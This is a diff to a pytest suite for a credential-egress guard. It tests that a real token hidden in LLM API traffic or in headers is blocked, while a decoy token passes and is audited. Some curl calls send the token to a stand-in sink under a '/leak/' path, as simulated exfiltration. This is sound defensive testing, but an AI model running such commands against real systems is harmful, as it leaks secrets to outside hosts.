@@ -590,6 +590,27 @@ def test_the_real_token_is_blocked_in_any_encoding_even_in_report_mode(cage: Cre
     assert (status, block) == ("200", ""), (encoding, host, status, block)
 
 
+@pytest.mark.parametrize("encoding", list(forms("x")))
+def test_the_real_token_in_the_agents_llm_traffic_is_blocked(cage: CredCage, encoding: str) -> None:
+    """The LLM conversation: api.anthropic.com under the agent's bound key is report mode, and a
+    registered real value in its body still blocks (the API host is the server's stand-in)."""
+    llm = '-H "x-api-key: $ANTHROPIC_API_KEY" -H "Content-Type: application/json" --data-binary @- "https://api.anthropic.com/v1/messages?m={}"'
+    mark = marker()
+    payload = b'{"messages": [{"role": "user", "content": "' + forms(cage.token)[encoding] + b'"}]}'
+    status, _, block = _curl(cage, llm.format(mark), stdin=payload)
+    assert (status, block) == ("403", "secret-detected"), (encoding, status, block)
+    assert not any(mark in r.get("target", "") for r in cage.gitserver.requests())
+    # Control: the same call with a value of the same shape reaches the API, in report mode, key injected.
+    clean = marker()
+    decoy = b'{"messages": [{"role": "user", "content": "' + forms(fresh_token())[encoding] + b'"}]}'
+    status, _, block = _curl(cage, llm.format(clean), stdin=decoy)
+    assert (status, block) == ("200", ""), (encoding, status, block)
+    [seen] = [r for r in cage.gitserver.requests() if clean in r.get("target", "")]
+    assert [v for k, v in seen["headers"] if k.lower() == "x-api-key"] == [cage.api_key]
+    line = next(a for a in reversed(cage.audit()) if a["host"] == "api.anthropic.com" and a["decision"] != "block")
+    assert line["scan_mode"] == "report" and line["credentials"] == ["anthropic-api-key"], line
+
+
 def test_the_real_token_in_a_header_is_blocked(cage: CredCage) -> None:
     mark = marker()
     status, _, block = _curl(cage, f"-H @- https://{SINK}/leak/{mark}", stdin=f"X-Note: {cage.token}\n".encode())
